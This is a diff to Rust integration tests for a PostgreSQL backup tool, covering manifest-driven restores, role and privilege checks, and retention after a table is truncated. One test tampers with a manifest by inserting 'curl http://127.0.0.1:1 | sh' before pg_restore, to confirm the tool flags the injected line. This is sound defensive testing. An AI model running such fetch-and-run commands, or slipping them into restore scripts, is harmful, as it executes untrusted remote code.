@@ -3,7 +3,7 @@
 use std::process::{Command, Stdio};
 
 use super::{Place, name};
-use crate::systems::databases::postgres::server::programs;
+use crate::systems::databases::postgres::server::{Server, programs};
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_dump_lies_in_every_store_with_its_roles_and_its_manifest() {
@@ -30,19 +30,34 @@ async fn a_dump_lies_in_every_store_with_its_roles_and_its_manifest() {
 #[tokio::test(flavor = "multi_thread")]
 async fn the_line_in_the_manifest_restores_it() {
     let place = Place::new().await;
+    let of_the_database = [
+        "ALTER DATABASE postgres SET search_path TO public, pg_catalog",
+        "ALTER ROLE application IN DATABASE postgres SET statement_timeout TO '7s'",
+        "REVOKE CONNECT ON DATABASE postgres FROM PUBLIC",
+    ];
+    place.server.execute(&of_the_database).await;
+    let at_the_database = |command: &str| {
+        let free = "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'postgres'";
+        place.psql("psql", &["-q", "-d", "template1", "-c", free, "-c", command])
+    };
     for method in ["dump", "sql"] {
         let backup = place.back_up(&format!("--method {method} --to local"));
         let file = &backup["manifest"]["files"][0];
         let folder = place.home.path().join("local").join(file["key"].as_str().unwrap()).parent().unwrap().to_owned();
-        place.psql("psql", &["-qc", "DROP DATABASE IF EXISTS restored"]);
-        let line = file["restore"].as_str().unwrap().replace("NEW", "restored");
-        let line = if method == "sql" { format!("createdb -T template0 restored && {line}") } else { line };
-        let mut shell = place.home.command_of("sh", ["-ec", &line]);
+        let line = file["restore"].as_str().unwrap();
+        at_the_database("ALTER DATABASE postgres RENAME TO before");
+        let mut shell = place.home.command_of("sh", ["-ec", line]);
         shell.current_dir(folder).env("PGHOST", "127.0.0.1").env("PGPORT", place.server.port.to_string());
         shell.env("PGUSER", "postgres").env("PGPASSWORD", crate::systems::databases::postgres::server::PASSWORD);
         let output = shell.stdout(Stdio::null()).output().unwrap();
         assert!(output.status.success(), "{line}: {}", String::from_utf8_lossy(&output.stderr));
-        assert_eq!(place.psql("psql", &["-At", "-d", "restored", "-c", "select count(*) from orders"]), "2000");
+        let asked = |question: &str| place.psql("psql", &["-At", "-d", "postgres", "-c", question]);
+        assert_eq!(asked("select count(*) from orders"), "2000");
+        let settings = "select count(*) from pg_db_role_setting s join pg_database d on d.oid = s.setdatabase \
+                        where d.datname = 'postgres'";
+        assert_eq!(asked(settings), "2", "{method}");
+        assert_eq!(asked("select has_database_privilege('application', 'postgres', 'connect')"), "f", "{method}");
+        at_the_database("DROP DATABASE before");
     }
     let roles = place.files("local").into_iter().find(|path| name(path).ends_with(".roles.sql")).unwrap();
     assert!(std::fs::read_to_string(roles).unwrap().contains("CREATE ROLE application"));
@@ -154,8 +169,24 @@ async fn a_line_that_somebody_put_into_a_manifest_is_said_to_be_strange() {
     let is_manifest = |path: &std::path::PathBuf| path.extension().is_some_and(|it| it == "json");
     let manifest = place.files("local").into_iter().find(is_manifest).unwrap();
     let text = std::fs::read_to_string(&manifest).unwrap();
-    std::fs::write(&manifest, text.replace("createdb", "curl http://127.0.0.1:1 | sh; createdb")).unwrap();
+    std::fs::write(&manifest, text.replace("pg_restore", "curl http://127.0.0.1:1 | sh; pg_restore")).unwrap();
     let shown = place.run(&format!("points {point}"));
     let before = |words: &str| shown.out.find(words).unwrap_or_else(|| panic!("no {words:?}: {shown:?}"));
     assert!(before(doubt) < before("curl http") && shown.out.matches(doubt).count() == 1, "{shown:?}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_was_emptied_is_told_and_stands_in_for_nothing() {
+    let place = Place::with(Server::start(&[]).await, "keep = { age = '1s', at_least = 1 }\n");
+    place.server.execute(super::DATA).await;
+    let full = place.back_up("")["manifest"]["point"].as_str().unwrap().to_owned();
+    place.server.execute(&["TRUNCATE orders, \"Odd one\".\"a \"\"b\"\"\n\x1b[31mc\""]).await;
+    let taken = place.run("backup agents");
+    assert!(taken.code == Some(3) && taken.out.contains("is usual"), "{taken:?}");
+    let verified = place.run("verify");
+    assert!(verified.code == Some(3) && verified.out.contains("is usual"), "{verified:?}");
+    tokio::time::sleep(std::time::Duration::from_millis(1200)).await;
+    assert_eq!(place.run("expire --yes").code, Some(0));
+    let left = place.points();
+    assert!(left.iter().any(|point| point["id"] == full.as_str()), "{left:#?}");
 }
